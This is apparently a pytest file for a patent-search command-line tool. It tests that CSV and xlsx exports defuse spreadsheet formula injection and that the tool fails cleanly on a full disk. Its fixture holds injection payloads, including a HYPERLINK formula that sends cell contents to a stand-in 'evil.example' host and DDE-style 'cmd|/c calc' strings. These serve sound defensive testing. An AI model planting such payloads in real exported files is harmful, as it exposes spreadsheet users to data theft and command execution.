"""Result files that are safe to open and whole (issue 24).

- CSV formula injection: a cell beginning with = + - @, a tab or a carriage return is
  what a spreadsheet runs as a formula (``+cmd|/c calc!A1``, ``=HYPERLINK(...)``); CSV
  output (``--output x.csv`` and ``--format csv``) writes it with a leading ``'`` as OWASP
  recommends, numbers stay numbers, and ``--keep-formulas`` turns it off.  ``.xlsx`` output
  stores such cells as text (openpyxl would write ``=...`` as a formula).
- A full disk: ``--output`` leaves no empty or half-written file and no traceback, and
  standard output on a full device (``> /dev/full``) is one line, exit 1.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from patentsim.ingest.cli import Seams
from patentsim.ingest.cli import cli as ingest_cli
from patentsim.search.cli import cli as search_cli
from patentsim.search.render import as_text_cell

from .conftest import ROOT
from .fakes import FakeEmbedder
from .faults import FILLER, fill, small_disk  # noqa: F401 (a fixture)

EVIL = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "cmd": "+cmd|/c calc!A1",
    "at": "@SUM(1,2)",
    "dash": "-2+3+cmd|/c calc!A1",
}


@pytest.fixture
def store(tmp_path, monkeypatch):
    path = tmp_path / "evil.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "abstract", "delta", *EVIL])
        for i in range(3):
            w.writerow([i, f"abstract {i} about a battery cooling loop", -5 - i, *EVIL.values()])
    args = ["load", str(path), "--id", "id", "-c", "e"]
    result = CliRunner().invoke(ingest_cli, args, obj=Seams(embedder=FakeEmbedder()))
    assert result.exit_code == 0, result.output
    return tmp_path


def search(*args: str):
    result = CliRunner().invoke(search_cli, [*args, "-c", "e"])
    assert result.exit_code == 0, result.output
    return result


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_csv_cells_that_would_run_as_formulas_are_made_text(store):
    out = store / "r.csv"
    search("like", "0", "--output", str(out))
    stdout = search("like", "0", "--format", "csv").stdout
    for text in (out.read_text(encoding="utf-8-sig"), stdout):
        rows = rows_of(text)
        assert len(rows) == 2
        for row in rows:
            for name, value in EVIL.items():
                assert row[name] == "'" + value, (name, row[name])
            assert row["delta"] in ("-6", "-7"), "a number typed as a number stays a number"
            assert row["rank"] in ("1", "2")


def test_keep_formulas_writes_them_as_they_are(store):
    out = store / "raw.csv"
    search("like", "0", "--output", str(out), "--keep-formulas")
    for row in rows_of(out.read_text(encoding="utf-8-sig")):
        for name, value in EVIL.items():
            assert row[name] == value


def test_facets_csv_too(store):
    result = search("facets", "at", "--format", "csv")
    assert rows_of(result.stdout) == [{"at": "'" + EVIL["at"], "count": "3"}]


def test_xlsx_stores_them_as_text_not_formulas(store):
    out = store / "r.xlsx"
    search("like", "0", "--output", str(out))
    ws = openpyxl.load_workbook(out).active
    header = [c.value for c in ws[1]]
    row = {h: c for h, c in zip(header, ws[2])}
    for name, value in EVIL.items():
        assert row[name].value == value and row[name].data_type == "s", name
    assert row["delta"].value in (-6, -7) and row["delta"].data_type == "n"


def test_the_rule_itself():
    assert as_text_cell("=1+1") == "'=1+1"
    assert as_text_cell("\r=1") == "'\r=1"
    assert as_text_cell("plain") == "plain"
    assert as_text_cell(-5) == -5 and as_text_cell(-2.5) == -2.5
    assert as_text_cell("") == ""


# -- one rule for every command that writes a spreadsheet ---------------------------------------

FORMULA = "=1+1"
# Each command that writes .csv/.xlsx, over a collection whose titles, applicants and codes
# are all FORMULA (so a map's points, clusters' applicants, groups and classes carry it).
SHEET_COMMANDS = {
    "like": ["like", "0"],
    "text": ["text", "battery cooling", "--mode", "keyword"],
    "facets": ["facets", "applicant"],
    "map": ["map", "--method", "pca"],
    "clusters": ["clusters", "--clusters", "2"],
    "dups": ["dups"],
    "suggest": ["suggest", "--label", "ipc", "--level", "full", "--ref", "0", "--mode", "keyword"],
}


@pytest.fixture
def formulas(tmp_path):
    path = tmp_path / "formulas.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "title", "abstract", "applicant", "ipc"])
        for i in range(12):
            # Pairs of one text: near-duplicates for search dups.
            text = f"battery cooling loop {i // 2} with a sensor and a pump {i // 2}"
            w.writerow([i, FORMULA, text, FORMULA, FORMULA])
    args = ["load", str(path), "--id", "id", "-c", "f"]
    result = CliRunner().invoke(ingest_cli, args, obj=Seams(embedder=FakeEmbedder()))
    assert result.exit_code == 0, result.output
    return tmp_path


def _written(tmp_path: Path, command: str, suffix: str, *flags: str) -> Path:
    out = tmp_path / f"{command}{''.join(flags)}.{suffix}"
    result = CliRunner().invoke(
        search_cli, [*SHEET_COMMANDS[command], "-c", "f", "--output", str(out), *flags]
    )
    assert result.exit_code == 0, result.output
    return out


@pytest.mark.parametrize("command", sorted(SHEET_COMMANDS))
def test_every_command_writes_formula_cells_as_text_unless_keep_formulas(formulas, command):
    for flags, made_text in (((), True), (("--keep-formulas",), False)):
        text = _written(formulas, command, "csv", *flags).read_text(encoding="utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row if FORMULA in c]
        assert cells, (command, text)
        assert all(c.startswith("'=") == made_text for c in cells), (command, flags, cells)
        assert all(c.startswith("'=") or c.startswith("=") for c in cells), cells

        book = openpyxl.load_workbook(_written(formulas, command, "xlsx", *flags))
        held = [
            c
            for ws in book.worksheets
            for row in ws.iter_rows()
            for c in row
            if isinstance(c.value, str) and FORMULA in c.value
        ]
        assert held, command
        kinds = {c.data_type for c in held}
        assert kinds == ({"s"} if made_text else {"f"}), (command, flags, kinds)


@pytest.mark.parametrize("command", sorted(SHEET_COMMANDS))
def test_every_command_with_csv_on_stdout_follows_the_same_rule(formulas, command):
    for flags, made_text in (((), True), (("--keep-formulas",), False)):
        result = CliRunner().invoke(
            search_cli, [*SHEET_COMMANDS[command], "-c", "f", "--format", "csv", *flags]
        )
        assert result.exit_code == 0, result.output
        rows = csv.reader(io.StringIO(result.stdout))
        cells = [c for row in rows for c in row if FORMULA in c]
        assert cells, (command, result.stdout)
        assert all(c.startswith("'=") == made_text for c in cells), (command, flags, cells)


# -- a full disk ------------------------------------------------------------------------------


def _env() -> dict[str, str]:
    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"), HF_HUB_OFFLINE="1")
    env.pop("QDRANT_URL", None)
    return env


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full on this system")
def test_standard_output_on_a_full_device_is_one_line(store):
    with open("/dev/full", "w") as full:
        done = subprocess.run(
            [sys.executable, "-m", "patentsim.search", "like", "0", "-c", "e", "--format", "csv"],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            env=_env(),
            timeout=120,
            check=False,
        )
    assert done.returncode == 1, done.stderr
    assert "Error: cannot write the standard output: the disk holding it is full" in done.stderr
    assert "Traceback" not in done.stderr and "Exception ignored" not in done.stderr


@pytest.mark.parametrize("suffix", ["csv", "xlsx", "jsonl"])
def test_output_on_a_full_disk_leaves_no_file(store, suffix, small_disk):  # noqa: F811
    disk = small_disk(4 << 20)
    old = disk / f"old.{suffix}"
    old.write_bytes(b"what was there")
    fill(disk, 0)
    for target in (disk / f"new.{suffix}", old):
        done = subprocess.run(
            [sys.executable, "-m", "patentsim.search", "like", "0", "-c", "e", "-o", str(target)],
            capture_output=True,
            text=True,
            env=_env(),
            timeout=120,
            check=False,
        )
        assert done.returncode == 1, done.stderr
        assert f"Error: --output {target}: the disk holding it is full" in done.stderr
        assert "Traceback" not in done.stderr and "Exception ignored" not in done.stderr
        assert sorted(p.name for p in disk.iterdir()) == sorted([FILLER, old.name])
    assert old.read_bytes() == b"what was there"


def test_every_spreadsheet_is_made_in_one_place():
    """The formula rule lives in ``render.to_csv`` / ``render.write_sheets``: no other module
    of the package writes CSV rows or builds a workbook itself."""
    src = ROOT / "src" / "patentsim"
    makers = ("csv.writer(", "csv.DictWriter(", "Workbook(", ".to_csv(", ".to_excel(")
    elsewhere = sorted(
        f"{path.relative_to(src)}: {m}"
        for path in src.rglob("*.py")
        if path.name != "render.py" or path.parent.name != "search"
        for m in makers
        if m in path.read_text(encoding="utf-8")
    )
    assert elsewhere == []
